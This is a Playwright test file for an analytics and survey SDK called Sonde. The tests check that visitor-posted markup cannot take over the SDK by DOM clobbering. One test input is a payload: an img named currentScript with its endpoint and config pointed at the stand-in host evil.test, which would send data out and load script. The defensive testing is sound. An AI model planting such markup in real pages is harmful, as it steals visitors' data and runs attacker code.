import { expect, type Page, test } from '@playwright/test'
import { flushedEvent, promptDialog, receive, serveHost } from './host'

// Markup a visitor may put on a page (a comment, a profile, a forum post) passes many sanitizers
// with a name and data-* attributes on an image: such an element names itself on the document
// (document.currentScript, document.title) before the built-in property.
async function answerBeside(page: Page, comment: string) {
  const received = await receive(page)
  await serveHost(
    page,
    `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Acme Reports</title>
<script src="/sdk/stub.js"></script></head><body><main><h1>Reports</h1>${comment}</main>
<script src="/sdk/sonde.js" data-endpoint="/v1/batch" data-key="pk_test" data-config="/fixtures/e2e.config.json"></script>
</body></html>`,
  )
  await page.goto('/app/reports')
  await page.evaluate(() =>
    (window as unknown as { sonde: { track(n: string): void } }).sonde.track('ticket_closed'),
  )
  const dialog = promptDialog(page)
  await expect(dialog).toHaveAccessibleName(/How satisfied/)
  // A corner prompt takes no focus: a screen reader hears of it from the live region.
  await expect(page.locator('sonde-root').getByRole('status')).toHaveText(/^Survey: How satisfied/)
  await dialog.getByRole('radio', { name: /^4/ }).click()
  const completed = await flushedEvent(page, received, 'survey.completed')
  expect(completed).toMatchObject({ answers: [{ questionId: 'csat', value: 4 }] })
  return completed
}

test("a visitor's <img name=currentScript> takes neither Sonde's chunks nor its options", async ({
  page,
}) => {
  const evil: string[] = []
  await page.context().route('https://evil.test/**', (route) => {
    // The image itself loads from there, as the page's markup asks.
    if (route.request().resourceType() !== 'image') evil.push(route.request().url())
    return route.fulfill({ status: 200, contentType: 'text/javascript', body: 'window.pwned = 1' })
  })
  await answerBeside(
    page,
    '<img name="currentScript" src="https://evil.test/x/" data-endpoint="https://evil.test/collect" data-config="https://evil.test/config.json" alt="">',
  )
  expect(evil).toEqual([])
  expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined()
})

// The receiver refuses an event whose page title is no string: every answer of the page was lost.
test("a visitor's <img name=title> leaves the events a string title", async ({ page }) => {
  const completed = await answerBeside(page, '<img name="title" alt="">')
  expect(completed?.context).toMatchObject({ page: { title: '' } })
})

// Each names a property Sonde reads on the document: the page seen hidden for good, a
// prerendering never activated, a body that is an image, a base URL that is one (against which
// the relative endpoint, as every URL, failed to resolve: Sonde refused its options).
for (const name of ['hidden', 'prerendering', 'body', 'baseURI']) {
  test(`a visitor's <img name=${name}> costs no answer`, async ({ page }) => {
    await answerBeside(page, `<img name="${name}" alt="">`)
  })
}
